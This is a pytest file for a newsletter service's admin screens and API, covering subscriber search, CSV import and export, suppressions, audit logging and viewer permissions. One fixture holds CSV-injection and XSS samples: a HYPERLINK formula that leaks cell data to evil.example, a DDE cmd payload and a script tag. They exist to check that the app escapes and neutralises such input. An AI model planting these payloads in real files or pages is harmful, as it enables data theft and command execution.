"""Admin subscribers, CSV import and export, suppressions: the real app, a real worker, a real SMTP server."""

from __future__ import annotations

import csv
import io
import re
import time
from datetime import date, timedelta

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from service.admin.models import AdminRole, AuditEntry, ImportJob
from service.core.db import engine_for
from service.mail.suppressions import is_suppressed
from service.models import Delivery, Edition, Subscriber, Suppression, utcnow
from service.readers.subscriptions.consent import ConsentContext
from service.readers.subscriptions.joining import add_subscriptions
from tests.support.admin import csrf_of, signed_in
from tests.support.apps import shared_app
from tests.support.readers import add_readers, pause

NEXT = re.compile(r'href="(/admin/subscribers\?[^"]*after=\d+[^"]*)"')


def audit_of(db, action: str) -> list[AuditEntry]:
    """The audit entries of one kind, oldest first."""
    db.expire_all()
    entries = list(db.scalars(select(AuditEntry).where(AuditEntry.action == action).order_by(AuditEntry.id)))
    db.commit()
    return entries


def emails_on(page_text: str) -> list[str]:
    """The addresses a result page lists."""
    return re.findall(r'href="/admin/subscribers/\d+">([^<]+)</a>', page_text)


def reader_with_history(db, world_news) -> Subscriber:
    """A confirmed reader who signed up on the form, paused, and got one edition sent and one refused."""
    consent = ConsentContext(source="form", ip="203.0.113.7", user_agent="Firefox/140 test", consent_text_version="v3")
    result = add_subscriptions(
        db, email="paula@example.org", lists=[world_news], consent=consent, name="Paula", confirmed=True
    )
    db.commit()
    subscriber = db.get(Subscriber, result.subscriber_id)
    subscriber.paused_until = utcnow() + timedelta(days=7)
    now = utcnow()
    for day, status, code, reply in (
        (date(2026, 3, 9), "sent", 250, "2.0.0 Ok: queued as 4F2A"),
        (date(2026, 3, 10), "failed", 550, "5.1.1 <paula@example.org>: mailbox unavailable"),
    ):
        edition = Edition(
            list_id=world_news.id,
            edition_date=day,
            window_start=now,
            window_end=now,
            subject=f"News of {day}",
            placeholder_key=f"k{day:%d}",
            html="<p>x</p>",
            text="x",
            send_status="complete",
        )
        db.add(edition)
        db.flush()
        db.add(
            Delivery(
                edition_id=edition.id,
                subscriber_id=subscriber.id,
                status=status,
                not_before=now,
                smtp_code=code,
                smtp_reply=reply,
                sent_at=now if status == "sent" else None,
                failure_kind="hard_bounce" if status == "failed" else None,
            )
        )
    db.commit()
    return subscriber


def test_search_filters_and_keyset_pages(client, db, settings, world_news):
    signed_in(client, db)
    engine = engine_for(settings.effective_database_url)
    add_readers(engine, world_news.id, 60, prefix="reader")
    pause(engine, ["reader7@example.org"])
    add_readers(engine, world_news.id, 3, prefix="waiting", status="unconfirmed")

    first = client.get("/admin/subscribers", params={"list": "world-news", "status": "confirmed"})
    assert first.status_code == 200
    page_one = emails_on(first.text)
    assert len(page_one) == 50 and "reader7@example.org" not in page_one and "waiting0@example.org" not in page_one
    next_url = NEXT.search(first.text).group(1).replace("&amp;", "&")
    page_two = emails_on(client.get(next_url).text)
    assert len(page_two) == 9 and not set(page_one) & set(page_two)
    assert NEXT.search(client.get(next_url).text) is None

    paused = client.get("/admin/subscribers", params={"status": "paused"}).text
    assert emails_on(paused) == ["reader7@example.org"] and "status-paused" in paused
    assert emails_on(client.get("/admin/subscribers", params={"q": "WAITING1"}).text) == ["waiting1@example.org"]
    found = client.get("/api/admin/subscribers", params={"q": "reader1", "limit": 5}).json()
    assert len(found["rows"]) == 5 and found["next_after"] is not None
    assert all("reader1" in row["email"] for row in found["rows"])
    rest = client.get("/api/admin/subscribers", params={"q": "reader1", "after": found["next_after"]}).json()
    assert len(found["rows"]) + len(rest["rows"]) == 11 and rest["next_after"] is None  # reader1, reader10..19
    assert client.get("/api/admin/subscribers", params={"status": "bogus"}).status_code == 422


def test_the_subscriber_page_shows_consent_deliveries_and_the_pause(client, db, world_news):
    signed_in(client, db)
    reader = reader_with_history(db, world_news)
    page = client.get(f"/admin/subscribers/{reader.id}").text
    for shown in (
        "paula@example.org",
        "203.0.113.7",
        "Firefox/140 test",
        "v3",
        "confirmed",
        "status-paused",
        "2.0.0 Ok: queued as 4F2A",
        "550",
        "5.1.1 &lt;paula@example.org&gt;: mailbox unavailable",
        "hard_bounce",
        "not suppressed",
    ):
        assert shown in page, shown
    data = client.get(f"/api/admin/subscribers/{reader.id}").json()
    assert data["subscriptions"][0]["status"] == "paused" and data["subscriptions"][0]["ip"] == "203.0.113.7"
    assert [d["smtp_code"] for d in data["deliveries"]] == [550, 250]
    assert client.get("/api/admin/subscribers/999999").status_code == 404


def test_unsubscribe_suppress_and_delete_from_the_ui_are_audited_with_the_admin(client, db, world_news):
    signed_in(client, db)
    reader = reader_with_history(db, world_news)
    reader_id = reader.id
    csrf = csrf_of(client, f"/admin/subscribers/{reader_id}")
    answer = client.post(f"/admin/subscribers/{reader_id}/unsubscribe", data={"csrf_token": csrf, "list": ""})
    assert "Unsubscribed from world-news." in answer.text and "status-unsubscribed" in answer.text
    answer = client.post(
        f"/admin/subscribers/{reader_id}/suppress",
        data={"csrf_token": csrf, "reason": "asked by phone never to be mailed again"},
    )
    assert "Suppressed" in answer.text and "asked by phone never to be mailed again" in answer.text
    assert is_suppressed(db, "paula@example.org")
    answer = client.post(f"/admin/subscribers/{reader_id}/delete", data={"csrf_token": csrf})
    assert answer.status_code == 200 and f"Deleted subscriber {reader_id}" in answer.text
    db.expire_all()
    assert db.get(Subscriber, reader_id) is None
    for action in ("subscriber.unsubscribe", "suppression.add", "subscriber.delete"):
        [entry] = audit_of(db, action)
        assert entry.actor == "ann@example.org", action
    assert "paula@example.org" not in str(audit_of(db, "subscriber.delete")[0].details)


def wait_done(client, job_id: int, timeout: float = 30.0) -> dict:
    """Poll the progress endpoint as the page's script does, until the import is done."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        state = client.get(f"/api/admin/imports/{job_id}").json()
        assert 0.0 <= state["fraction"] <= 1.0 and state["label"]
        if state["done"]:
            return state
        time.sleep(0.2)
    raise AssertionError(f"import {job_id} not done in {timeout}s: {state}")


CSV = (
    "email,name,timezone\n"
    "new.one@example.org,New One,Europe/Paris\n"
    "new.two@example.org,New Two,\n"
    "new.one@example.org,Again,\n"
    "not an address,Nobody,\n"
    "new.three@example.org,Bad Zone,Mars/Olympus\n"
)


def test_a_csv_import_shows_progress_reports_bad_lines_and_mails_each_new_address(client, db, world_news, mailbox):
    signed_in(client, db)
    csrf = csrf_of(client, "/admin/imports/new")
    answer = client.post(
        "/admin/subscribers/import",
        data={"csrf_token": csrf, "list": "world-news"},
        files={"file": ("readers.csv", CSV.encode(), "text/csv")},
        follow_redirects=False,
    )
    assert answer.status_code == 303, answer.text
    job_id = int(answer.headers["location"].rsplit("/", 1)[1])
    assert answer.headers["location"] == f"/admin/imports/{job_id}"
    progress_page = client.get(answer.headers["location"]).text
    assert 'class="progress"' in progress_page and "readers.csv" in progress_page
    state = wait_done(client, job_id)
    assert state["status"] == "done" and state["added"] == 2 and state["fraction"] == 1.0
    assert [line for line, _, _ in state["rejected"]] == [4, 5, 6]
    assert [text for _, _, text in state["rejected"]] == [
        "new.one@example.org,Again,",
        "not an address,Nobody,",
        "new.three@example.org,Bad Zone,Mars/Olympus",
    ]
    report = client.get(f"/admin/imports/{job_id}").text
    assert "Rejected rows" in report and "appears earlier in this file" in report and "Mars/Olympus" in report
    for address in ("new.one@example.org", "new.two@example.org"):
        [received] = mailbox.wait_for(address)
        assert "confirm" in received.message["Subject"].lower()
    assert "readers.csv" in client.get("/admin/imports").text
    [entry] = audit_of(db, "subscribers.import")
    assert entry.actor == "ann@example.org" and entry.details["confirmed"] is False


def test_a_pre_confirmed_import_without_a_reason_is_refused_under_the_field(client, db, world_news):
    signed_in(client, db)
    csrf = csrf_of(client, "/admin/imports/new")
    answer = client.post(
        "/admin/subscribers/import",
        data={"csrf_token": csrf, "list": "world-news", "confirmed": "1", "reason": "  "},
        files={"file": ("readers.csv", CSV.encode(), "text/csv")},
    )
    assert answer.status_code == 422
    assert re.search(r'id="reason-error" role="alert">A pre-confirmed import needs a reason', answer.text)
    # The chosen file cannot come back in a file input: the page says so, by name, under the file field.
    assert re.search(r'id="file-error" role="alert">Nothing was uploaded: choose readers.csv again', answer.text)
    assert 'data-required-with="confirmed"' in answer.text  # and the script asks for the reason before sending
    assert 'name="confirmed" value="1" checked' in answer.text
    db.expire_all()
    assert db.scalar(select(ImportJob.id)) is None


HOSTILE = (
    "email,name\n"
    "fine@example.org,Fine\n"
    '=HYPERLINK("http://evil.example/?"&A1;"x"),Formula\n'
    "+1-2@example,Plus\n"
    "<script>alert(1)</script>,<b>Bold</b>\n"
    "@SUM(1+1)*cmd|' /C calc'!A0,At\n"
)


def test_rejected_rows_show_their_value_escaped_and_download_as_inert_csv(client, db, world_news):
    signed_in(client, db)
    csrf = csrf_of(client, "/admin/imports/new")
    answer = client.post(
        "/admin/subscribers/import",
        data={"csrf_token": csrf, "list": "world-news"},
        files={"file": ("hostile.csv", HOSTILE.encode(), "text/csv")},
        follow_redirects=False,
    )
    job_id = int(answer.headers["location"].rsplit("/", 1)[1])
    state = wait_done(client, job_id)
    assert [line for line, _, _ in state["rejected"]] == [3, 4, 5, 6], state["rejected"]
    report = client.get(f"/admin/imports/{job_id}").text
    assert "<script>alert(1)</script>" not in report and "<b>Bold</b>" not in report
    assert "&lt;script&gt;alert(1)&lt;/script&gt;,&lt;b&gt;Bold&lt;/b&gt;" in report  # shown, as text
    assert f'href="/admin/imports/{job_id}/rejected.csv"' in report

    download = client.get(f"/admin/imports/{job_id}/rejected.csv")
    assert download.status_code == 200 and download.headers["content-type"].startswith("text/csv")
    assert download.headers["content-disposition"] == f'attachment; filename="import-{job_id}-rejected.csv"'
    rows = list(csv.reader(io.StringIO(download.text)))
    assert rows[0] == ["line", "reason", "row"] and [row[0] for row in rows[1:]] == ["3", "4", "5", "6"]
    by_line = {int(row[0]): row for row in rows[1:]}
    assert by_line[3][2] == '\'=HYPERLINK("http://evil.example/?"&A1;"x"),Formula'  # a formula made text
    assert by_line[4][2] == "'+1-2@example,Plus" and by_line[6][2].startswith("'@SUM(1+1)")
    assert by_line[5][2] == "<script>alert(1)</script>,<b>Bold</b>"  # a CSV cell is not HTML: kept as it was
    assert all(row[1] and not row[1].startswith(("=", "+", "-", "@")) for row in rows[1:])
    for line, why, _ in state["rejected"]:
        assert by_line[line][1] == (f"'{why}" if why.startswith(("=", "+", "-", "@")) else why)

    api = client.get(f"/api/admin/imports/{job_id}/rejected.csv")
    assert api.status_code == 200 and api.text == download.text
    assert len(audit_of(db, "subscribers.import.rejected")) == 2


def test_an_upload_over_the_limit_is_one_clear_line_and_nothing_is_stored(settings, db, world_news):
    small = settings.model_copy(update={"import_max_bytes": 200})
    with TestClient(shared_app(small)) as browser:
        signed_in(browser, db)
        csrf = csrf_of(browser, "/admin/imports/new")
        big = ("email\n" + "".join(f"reader{n}@example.org\n" for n in range(40))).encode()
        answer = browser.post(
            "/admin/subscribers/import",
            data={"csrf_token": csrf, "list": "world-news"},
            files={"file": ("big.csv", big, "text/csv")},
        )
    assert answer.status_code == 413 and "too large" in answer.text
    db.expire_all()
    assert db.scalar(select(ImportJob.id)) is None
    assert not list(settings.data_dir.glob("imports/*.csv"))


def test_export_is_a_csv_download_of_the_list_and_status(client, db, settings, world_news):
    signed_in(client, db)
    engine = engine_for(settings.effective_database_url)
    add_readers(engine, world_news.id, 3, prefix="fan")
    add_readers(engine, world_news.id, 2, prefix="maybe", status="unconfirmed")
    answer = client.get("/admin/subscribers/export", params={"list": "world-news", "status": "confirmed"})
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"] == 'attachment; filename="world-news-confirmed.csv"'
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert sorted(row["email"] for row in rows) == ["fan0@example.org", "fan1@example.org", "fan2@example.org"]
    assert {row["status"] for row in rows} == {"confirmed"}
    everyone = list(
        csv.DictReader(io.StringIO(client.get("/admin/subscribers/export", params={"list": "world-news"}).text))
    )
    assert len(everyone) == 5
    assert [e.actor for e in audit_of(db, "subscribers.export")] == ["ann@example.org"] * 2


def test_suppressions_are_added_looked_up_and_removed_with_a_reason(client, db):
    signed_in(client, db)
    csrf = csrf_of(client, "/admin/suppressions")
    answer = client.post(
        "/admin/suppressions",
        data={"csrf_token": csrf, "address": "Gone@Example.org", "reason": "complained by letter"},
    )
    assert "Suppressed" in answer.text and "complained by letter" in answer.text
    assert is_suppressed(db, "gone@example.org")
    looked = client.post("/admin/suppressions/lookup", data={"csrf_token": csrf, "address": "gone@example.org"})
    assert "Suppressed</strong>" in looked.text and "complained by letter" in looked.text
    assert "gone@example.org" not in client.get("/admin/suppressions").text.replace('value="gone@example.org"', "")
    refused = client.post(
        "/admin/suppressions/remove", data={"csrf_token": csrf, "address": "gone@example.org", "reason": ""}
    )
    assert refused.status_code == 422 and "Please give a reason" in refused.text
    removed = client.post(
        "/admin/suppressions/remove",
        data={"csrf_token": csrf, "address": "gone@example.org", "reason": "wrote back: wants the news again"},
    )
    assert "Removed from the suppression list" in removed.text and not is_suppressed(db, "gone@example.org")
    again = client.post("/admin/suppressions/lookup", data={"csrf_token": csrf, "address": "gone@example.org"})
    assert "Not suppressed" in again.text
    assert [e.actor for e in audit_of(db, "suppression.add") + audit_of(db, "suppression.remove")] == [
        "ann@example.org"
    ] * 2

    made = client.post(
        "/api/admin/suppressions",
        headers={"X-CSRF-Token": csrf},
        json={"address": "api@example.org", "reason": "hard bounce elsewhere"},
    )
    assert made.status_code == 201 and made.json()["reason"] == "hard bounce elsewhere"
    listed = client.get("/api/admin/suppressions").json()
    assert [row["hash_prefix"] for row in listed["rows"]] == [made.json()["hash_prefix"]]
    gone = client.request(
        "DELETE",
        "/api/admin/suppressions",
        headers={"X-CSRF-Token": csrf},
        json={"address": "api@example.org", "reason": "test over"},
    )
    assert gone.status_code == 200 and gone.json() == {"removed": True}
    db.expire_all()
    assert db.scalar(select(Suppression.id)) is None


def test_the_api_unsubscribes_deletes_and_imports(client, db, world_news, mailbox):
    signed_in(client, db)
    reader_id = reader_with_history(db, world_news).id
    csrf = {"X-CSRF-Token": csrf_of(client, "/admin/subscribers")}
    left = client.post(f"/api/admin/subscribers/{reader_id}/unsubscribe", headers=csrf, json={"list": "world-news"})
    assert left.status_code == 200 and left.json() == {"changed": ["world-news"]}
    assert client.delete(f"/api/admin/subscribers/{reader_id}", headers=csrf).json() == {"deleted": reader_id}
    assert client.get(f"/api/admin/subscribers/{reader_id}").status_code == 404
    started = client.post(
        "/api/admin/imports",
        headers=csrf,
        data={"list": "world-news"},
        files={"file": ("api.csv", b"email\nvia.api@example.org\n", "text/csv")},
    )
    assert started.status_code == 202, started.text
    assert wait_done(client, started.json()["id"])["added"] == 1
    mailbox.wait_for("via.api@example.org")
    refused = client.post(
        "/api/admin/imports",
        headers=csrf,
        data={"list": "world-news", "confirmed": "true"},
        files={"file": ("api.csv", b"email\nx@example.org\n", "text/csv")},
    )
    assert refused.status_code == 422


@pytest.fixture
def viewer(settings, db):
    """A browser signed in as a viewer (no worker needed: every call is refused)."""
    with TestClient(shared_app(settings), follow_redirects=False) as browser:
        signed_in(browser, db, email="vic@example.org", role=AdminRole.viewer)
        yield browser


def test_a_viewer_gets_403_on_every_subscriber_screen_and_call(viewer, db, world_news):
    csrf = csrf_of(viewer, "/admin/lists")
    form = {"csrf_token": csrf, "address": "a@example.org", "reason": "r", "list": "world-news"}
    reads = [
        "/admin/subscribers",
        "/admin/subscribers/1",
        "/admin/subscribers/export?list=world-news",
        "/admin/imports",
        "/admin/imports/new",
        "/admin/imports/1",
        "/admin/imports/1/rejected.csv",
        "/admin/suppressions",
        "/api/admin/subscribers",
        "/api/admin/subscribers/1",
        "/api/admin/imports/1",
        "/api/admin/imports/1/rejected.csv",
        "/api/admin/suppressions",
    ]
    for path in reads:
        assert viewer.get(path).status_code == 403, path
    for path in (
        "/admin/subscribers/1/unsubscribe",
        "/admin/subscribers/1/suppress",
        "/admin/subscribers/1/delete",
        "/admin/subscribers/import",
        "/admin/suppressions",
        "/admin/suppressions/remove",
        "/admin/suppressions/lookup",
    ):
        assert viewer.post(path, data=form).status_code == 403, path
    headers = {"X-CSRF-Token": csrf}
    assert viewer.post("/api/admin/suppressions", headers=headers, json=form).status_code == 403
    assert viewer.request("DELETE", "/api/admin/suppressions", headers=headers, json=form).status_code == 403
    assert viewer.delete("/api/admin/subscribers/1", headers=headers).status_code == 403
    assert viewer.post("/api/admin/subscribers/1/unsubscribe", headers=headers, json={}).status_code == 403
    assert (
        viewer.post(
            "/api/admin/imports",
            headers=headers,
            data={"list": "world-news"},
            files={"file": ("a.csv", b"email\na@example.org\n", "text/csv")},
        ).status_code
        == 403
    )
